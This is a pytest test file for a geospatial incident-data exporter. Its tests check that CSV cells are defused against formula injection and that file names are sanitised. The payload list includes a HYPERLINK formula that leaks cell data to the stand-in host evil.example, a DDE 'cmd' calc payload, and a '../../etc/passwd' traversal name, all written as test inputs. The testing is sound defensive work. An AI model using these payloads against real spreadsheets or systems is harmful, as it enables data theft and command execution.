"""geo.store.export: the files an analyst takes away from a view; geo.viz.export adds
the offline map HTML."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date

import geopandas as gpd
import pandas as pd
import pytest

from geo.viz import export as map_export  # the HTML map export is viz's
from geo.incidents import Incident
from geo.store import empty_layer, export, incidents_to_frame, read_layer

from conftest import synthetic_incidents


@pytest.fixture(scope="module")
def layer():
    return incidents_to_frame(synthetic_incidents())


HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _rows(data: bytes) -> list[dict]:
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the UTF-8 right
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_has_every_incident_and_column(layer):
    rows = _rows(export.to_csv(layer))
    assert len(rows) == 11
    assert list(rows[0]) == [c for c in layer.columns if c != "geometry"]
    assert rows[0]["event_date"] == "2024-04-02"
    assert rows[0]["fatalities"] == "12" and rows[0]["latitude"] == "15.64"
    assert rows[10]["latitude"] == ""  # not located: empty, not "nan"
    back = pd.read_csv(io.BytesIO(export.to_csv(layer)), encoding="utf-8-sig")
    assert back["fatalities"].sum() == 80


@pytest.mark.parametrize("payload", HOSTILE)
def test_csv_cells_cannot_start_a_formula(payload):
    frame = incidents_to_frame([
        Incident("2024-01-01", "Battles", "Armed clash", payload, actor2="Civilians", location=payload,
                 evidence=payload, title=payload, source=payload, latitude=-1.5, longitude=-60.25,
                 fatalities=3, doc_id="d")
    ])
    (row,) = _rows(export.to_csv(frame))
    for col in ("actor1", "location", "evidence", "title", "source"):
        assert row[col] == "'" + payload, col
        assert not row[col].startswith(export.FORMULA_START)
    # numbers stay numbers, even negative ones; plain text is untouched
    assert row["latitude"] == "-1.5" and row["longitude"] == "-60.25" and row["fatalities"] == "3"
    assert row["actor2"] == "Civilians"


def test_neutralise_formula():
    assert export.neutralise_formula("=1+1") == "'=1+1"
    assert export.neutralise_formula("Battle at -5 C") == "Battle at -5 C"
    assert export.neutralise_formula("") == ""
    assert export.neutralise_formula(None) is None
    assert export.neutralise_formula(-3) == -3


def test_geojson(layer):
    gj = json.loads(export.to_geojson(layer))
    assert gj["type"] == "FeatureCollection"
    assert len(gj["features"]) == 11
    first = gj["features"][0]
    assert first["geometry"] == {"type": "Point", "coordinates": [32.48, 15.64]}
    assert first["id"] == first["properties"]["event_id"]
    assert first["properties"]["event_date"] == "2024-04-02"
    assert first["properties"]["fatalities"] == 12
    assert gj["features"][10]["geometry"] is None  # kept, not located
    assert gj["features"][10]["properties"]["latitude"] is None
    # and GDAL reads it back
    back = gpd.read_file(io.BytesIO(export.to_geojson(layer)))
    assert len(back) == 11 and back.crs.to_epsg() == 4326


def test_geoparquet_round_trips_through_the_store_reader(layer, tmp_path):
    path = tmp_path / "view.parquet"
    path.write_bytes(export.to_geoparquet(layer.iloc[2:5]))
    back = read_layer(path)
    assert list(back["event_id"]) == list(layer["event_id"].iloc[2:5])
    assert back.crs.to_epsg() == 4326
    assert back.geometry.iloc[0].x == pytest.approx(25.35)


def test_map_html_is_standalone_and_offline(layer):
    html = map_export.to_map_html(layer, title='Sudan <April> "2024"').decode("utf-8")
    assert html.startswith("<!DOCTYPE html>")
    assert re.findall(r"https?://", html) == []
    assert "<title>Sudan &lt;April&gt; &#34;2024&#34;</title>" in html or "<title>Sudan &lt;April&gt; &quot;2024&quot;</title>" in html
    assert "var RAW = " in html  # the incidents travel with the file
    heat = map_export.to_map_html(layer, heatmap=True).decode("utf-8")
    assert "L.heatLayer(" in heat


def test_empty_views_export_cleanly():
    empty = empty_layer()
    assert _rows(export.to_csv(empty)) == []
    assert json.loads(export.to_geojson(empty))["features"] == []
    assert len(gpd.read_parquet(io.BytesIO(export.to_geoparquet(empty)))) == 0
    assert b"var RAW = " in map_export.to_map_html(empty)


def test_export_dispatch_and_names(layer):
    assert export.export(layer, "csv") == export.to_csv(layer)
    with pytest.raises(ValueError):
        export.export(layer, "xlsx")
    assert export.file_name("incidents", "csv") == "incidents.csv"
    assert export.file_name("incidents", "geoparquet", date(2021, 6, 1), date(2021, 6, 30)) == \
        "incidents_2021-06-01_2021-06-30.parquet"
    assert export.file_name("../../etc/passwd", "html") == "etc-passwd.html"
    assert export.file_name("brief", "pdf", date(2021, 6, 1)) == "brief_2021-06-01_end.pdf"
    with pytest.raises(ValueError):
        export.file_name("brief", "../")


def test_the_dashboard_exports_the_map_beside_the_data_formats(layer):
    assert list(map_export.FORMATS) == [*export.FORMATS, "html"]
    assert map_export.export(layer, "geojson") == export.to_geojson(layer)
    assert b"var RAW = " in map_export.export(layer, "html")
    with pytest.raises(ValueError):
        map_export.export(layer, "xlsx")
